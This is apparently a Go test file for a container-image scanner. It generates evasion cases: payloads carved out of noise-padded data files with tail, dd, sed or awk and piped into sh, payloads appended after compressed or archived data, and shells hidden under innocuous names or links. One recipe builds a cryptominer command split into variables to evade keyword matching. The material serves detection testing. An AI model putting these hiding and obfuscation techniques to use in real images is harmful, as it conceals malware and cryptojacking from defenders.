package evasion

import (
	"encoding/base64"
	"fmt"
	"math/rand/v2"
	"strings"

	"github.com/safepull/safepull/test/corpus"
	"github.com/safepull/safepull/test/imagetest"
)

// carvings are contents that no structure of their file leads to: a script of the image knows where they are.
func carvings() []recipe {
	const group = "cut out by a script"
	// A table of noise, in which nothing is at a place that a format would say.
	noise := func(k *kit, n int) []byte {
		p := make([]byte, n)
		k.rngBytes(p)
		p[0] = 0xa5
		return p
	}
	from := func(name, command string, hidden func(*kit) []byte) recipe {
		return recipe{group: group, name: name, make: func(k *kit) imagetest.Image {
			front := noise(k, 3000+k.rng.IntN(2000))
			body := append(append([]byte(nil), front...), hidden(k)...)
			script := strings.NewReplacer("OFFSET", fmt.Sprint(len(front)), "NEXT", fmt.Sprint(len(front)+1), "SIZE", fmt.Sprint(len(body)-len(front))).Replace(command)
			return k.starts(hiding+script, imagetest.File{Path: "srv/data/table.bin", Body: body})
		}}
	}
	packed := func(k *kit) []byte { return []byte(gzipped(string(k.program()))) }
	script := func(k *kit) []byte { return []byte(gzipped(k.shell(run))) }
	// Self-extracting scripts whose payload is not at the beginning of a line, or is no format that is told by its beginning.
	itself := func(name string, body func(k *kit) string) recipe {
		return recipe{group: group, name: name, make: func(k *kit) imagetest.Image {
			return k.image([]string{"/opt/install.run"}, imagetest.Script("opt/install.run", body(k)))
		}}
	}
	return []recipe{
		from("tail-gunzip", "tail -c +NEXT /srv/data/table.bin | gunzip > /tmp/w\nchmod +x /tmp/w\nexec /tmp/w\n", packed),
		from("tail-its-end", "tail -c SIZE /srv/data/table.bin | gzip -dc | sh\n", script),
		from("dd-bytes", "dd if=/srv/data/table.bin of=/tmp/w.gz bs=1 skip=OFFSET 2>/dev/null\ngunzip /tmp/w.gz\nsh /tmp/w\n", script),
		from("dd-count", "dd if=/srv/data/table.bin iflag=skip_bytes,count_bytes skip=OFFSET count=SIZE | zcat | sh\n", script),
		from("variable", "AT=OFFSET\ntail -c +$((AT + 1)) /srv/data/table.bin | tar xz -C /tmp\n/tmp/w\n", func(k *kit) []byte { return []byte(gzipped(string(tarOf("w", k.program())))) }),
		from("unknown-place", "AT=$(cat /run/offset)\ntail -c +$AT /srv/data/table.bin | tar xz -C /tmp\n/tmp/w\n", func(k *kit) []byte { return []byte(gzipped(string(tarOf("w", k.program())))) }),
		from("zip-in-the-middle", "tail -c +NEXT /srv/data/table.bin > /tmp/w.zip\nunzip /tmp/w.zip -d /tmp\n/tmp/w\n", func(k *kit) []byte { return append(zipOf("w", k.program()), noise(k, 3000)...) }),
		itself("lines", func(k *kit) string {
			return hiding + "tail -n +6 \"$0\" | tr '@' '\\n' | base64 -d | sh\nexit 0\n# --\n" + strings.ReplaceAll(wrapped(b64(k.shell(run))), "\n", "@")
		}),
		itself("sed-mark", func(k *kit) string {
			return hiding + "sed '1,/^__PAYLOAD__$/d' \"$0\" | tar xz -C /tmp\nexec /tmp/w\n__PAYLOAD__\n" + gzipped(string(tarOf("w", k.program())))
		}),
		itself("awk-line", func(k *kit) string {
			return hiding + "SKIP=$(awk '/^__BELOW__/ { print NR + 1; exit 0; }' \"$0\")\ntail -n +$SKIP \"$0\" | base64 -d > /tmp/w\nchmod +x /tmp/w\n/tmp/w\nexit 0\n__BELOW__\n" + wrapped(b64(string(k.program())))
		}),
	}
}

// streams hide behind the end of compressed data, or of an archive, in the same file. Whatever opens such a file by its
// name opens the harmless part.
func streams() []recipe {
	const group = "behind packed data"
	hello := gzipped("# settings\nlog-level = info\n")
	bz2 := string(unb64("QlpoOTFBWSZTWeW18wkAAARRAAAQQAACRKAAIbUYDAKQacKjC7kinChIctr5hIA="))
	xz := string(unb64("/Td6WFoAAATm1rRGAgAhARYAAAB0L+Wj4AARAAxdADQZSe6N6U9+ISGwAAAfAdnIh8FDyAABKBLJamKOH7bzfQEAAAAABFla"))
	with := func(name, path string, body func(*kit) string) recipe {
		return recipe{group: group, name: name, make: func(k *kit) imagetest.Image {
			return k.image([]string{"/opt/app/start", "--data", "/" + path}, imagetest.Binary("opt/app/start", []byte("\x7fELF")), imagetest.File{Path: path, Body: []byte(body(k))})
		}}
	}
	return []recipe{
		with("gzip-program", "opt/app/table.gz", func(k *kit) string { return hello + string(k.program()) }),
		with("gzip-script", "opt/app/table.gz", func(k *kit) string { return hello + b64(k.shell(run)) }),
		with("zstd-tar", "opt/app/table.zst", func(k *kit) string {
			return string(zstdOf([]byte("# settings\n"))) + string(tarOf("w", k.program()))
		}),
		with("bzip2-zip", "opt/app/table.bz2", func(k *kit) string { return bz2 + string(zipOf("w", k.program())) + "." }),
		with("xz-gzip-zstd", "opt/app/table.xz", func(k *kit) string { return xz + hello + string(zstdOf(k.program())) }),
		with("tar-zip-byte", "opt/app/table.dat", func(k *kit) string {
			return string(tarOf("settings", []byte("log-level = info\n"))) + string(zipOf("w", k.program())) + "."
		}),
		with("zip-gzip-byte", "opt/app/table.dat", func(k *kit) string {
			return string(zipOf("settings", []byte("log-level = info\n"))) + gzipped(string(k.program())) + "."
		}),
	}
}

func unb64(s string) []byte {
	b, _ := base64.StdEncoding.DecodeString(s) // a constant
	return b
}

// interpreters are shells and others under names that say nothing. What they are told stands in pieces, so that only what
// a shell makes of it shows.
func interpreters() []recipe {
	const group = "an interpreter by another name"
	dash := func() []byte { return corpus.Ordinary(rand.New(rand.NewPCG(1, 1)), amd64, "dash") } // that of the base
	worker := imagetest.Binary("opt/app/worker", []byte("\x7fELF"))
	// pieces says a command line with its telling words in variables.
	pieces := func(k *kit) string {
		return either(k, "S=stratum; T=tcp; D=don; exec "+run+" -o $S+$T://"+k.pool+" -u "+k.wallet+" -p x --${D}ate-level=1",
			"S=postgresql; T=db; D=lo; exec "+run+" -d $S://$T.contoso.example:5432/app -n web --${D}g-level=1")
	}
	with := func(name string, make func(*kit) imagetest.Image) recipe {
		return recipe{group: group, name: name, make: make}
	}
	return []recipe{
		with("copied-when-built", func(k *kit) imagetest.Image {
			return k.image([]string{"/opt/app/agent", "-c", pieces(k)}, worker, imagetest.Binary("opt/app/agent", dash()))
		}),
		with("copied-then-removed", func(k *kit) imagetest.Image {
			return k.layered([]string{"/opt/app/agent", "/opt/app/table"}, []imagetest.File{worker, imagetest.Binary("opt/app/agent", dash()), imagetest.Text("opt/app/table", pieces(k)+"\n")},
				[]imagetest.File{imagetest.Whiteout("usr/bin/dash")})
		}),
		with("hard-link", func(k *kit) imagetest.Image {
			return k.image([]string{"/opt/app/agent", "-c", pieces(k)}, worker, imagetest.File{Path: "opt/app/agent", Hardlink: "usr/bin/dash"})
		}),
		with("link-to-a-link", func(k *kit) imagetest.Image {
			return k.image([]string{"/opt/app/agent", "/opt/app/table"}, worker, imagetest.File{Path: "opt/app/agent", Symlink: "../../bin/sh"}, imagetest.Text("opt/app/table", pieces(k)+"\n"))
		}),
		with("copied-at-start", func(k *kit) imagetest.Image {
			return k.starts(hiding+"cp /bin/sh /tmp/agent\n/tmp/agent /opt/app/table\n", worker, imagetest.Text("opt/app/table", pieces(k)+"\n"))
		}),
		with("by-what-it-holds", func(k *kit) imagetest.Image {
			own := corpus.Program(amd64, []byte("GNU bash\x00BASH_VERSINFO\x00BASH_VERSION\x00"))
			return k.image([]string{"/opt/app/agent", "/opt/app/table"}, worker, imagetest.Binary("opt/app/agent", own), imagetest.Text("opt/app/table", pieces(k)+"\n"))
		}),
		with("multiplexer", func(k *kit) imagetest.Image {
			own := corpus.Program(amd64, []byte("BusyBox v1.36.1 (2023-07-27) multi-call binary.\x00"))
			return k.image([]string{"/opt/app/busybox-1.36", "sh", "/opt/app/table"}, worker, imagetest.Binary("opt/app/busybox-1.36", own), imagetest.Text("opt/app/table", pieces(k)+"\n"))
		}),
		with("fed-through-a-pipe", func(k *kit) imagetest.Image {
			return k.starts(hiding+"cat /opt/app/table | /opt/app/agent\n", worker, imagetest.Binary("opt/app/agent", dash()), imagetest.Text("opt/app/table", pieces(k)+"\n"))
		}),
	}
}
